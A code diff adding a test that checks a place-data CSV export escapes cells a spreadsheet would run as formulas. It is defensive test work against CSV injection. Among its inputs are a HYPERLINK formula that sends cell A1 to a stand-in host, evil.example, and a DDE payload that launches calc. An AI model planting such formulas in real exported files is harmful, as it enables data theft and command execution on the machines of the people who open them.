@@ -95,6 +95,40 @@ def test_csv_columns_and_values():
     assert by_slug["iwate"]["area_km2"] == "0.30000000000000004"
 
 
+FORMULAS = {"name_en": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "name_ja": "+81 釜石",
+            "name_local": "-2+3", "external_id": "@SUM(1+1)"}
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(tmp_path):
+    PlaceFactory(slug="formulas", country="JP", population_growth=-1.8, latitude=-33.5, longitude=-70.25,
+                 summary={"en": "-cmd|' /C calc'!A0", "ja": "'=already quoted"}, **FORMULAS)
+    PlaceFactory(slug="blanks", country="JP", name_en="\t=1+1", summary={"en": "\r=2+2"})
+    PlaceFactory(slug="harmless", country="JP", name_en="Kamaishi", name_ja="'quoted' name", summary={"en": "a-b"})
+    first = export()
+    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(first, newline=""))}
+    formulas = rows["formulas"]
+    assert formulas["name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    assert (formulas["name_ja"], formulas["name_local"], formulas["id"]) == ("'+81 釜石", "'-2+3", "'@SUM(1+1)")
+    assert (formulas["summary_en"], formulas["summary_ja"]) == ("'-cmd|' /C calc'!A0", "''=already quoted")
+    assert (rows["blanks"]["name"], rows["blanks"]["summary_en"]) == ("'\t=1+1", "'\r=2+2")
+    # numbers stay numbers, and texts that are no formula stay as they are
+    assert (formulas["population_growth"], formulas["lat"], formulas["lon"]) == ("-1.8", "-33.5", "-70.25")
+    assert (rows["harmless"]["name_ja"], rows["harmless"]["summary_en"]) == ("'quoted' name", "a-b")
+    # the JSON export is not for spreadsheets: nothing is escaped
+    json_records = {r["slug"]: r for r in json.loads(export("--format", "json"))}
+    assert json_records["formulas"]["name"] == FORMULAS["name_en"]
+    # importing the CSV file gives the texts back exactly
+    Place.objects.all().delete()
+    import_file(tmp_path, first, "places.csv")
+    place = Place.objects.get(slug="formulas")
+    assert {name: getattr(place, name) for name in FORMULAS} == FORMULAS
+    assert place.summary == {"en": "-cmd|' /C calc'!A0", "ja": "'=already quoted"}
+    assert Place.objects.get(slug="harmless").name_ja == "'quoted' name"
+    again = {row["slug"]: row for row in csv.DictReader(io.StringIO(export(), newline=""))}
+    assert again["formulas"] == formulas and again["harmless"] == rows["harmless"]
+    assert (again["blanks"]["name"], again["blanks"]["summary_en"]) == ("'=1+1", "'=2+2")  # an import trims texts
+
+
 def test_json_types():
     varied_places()
     records = {record["slug"]: record for record in json.loads(export("--format", "json"))}
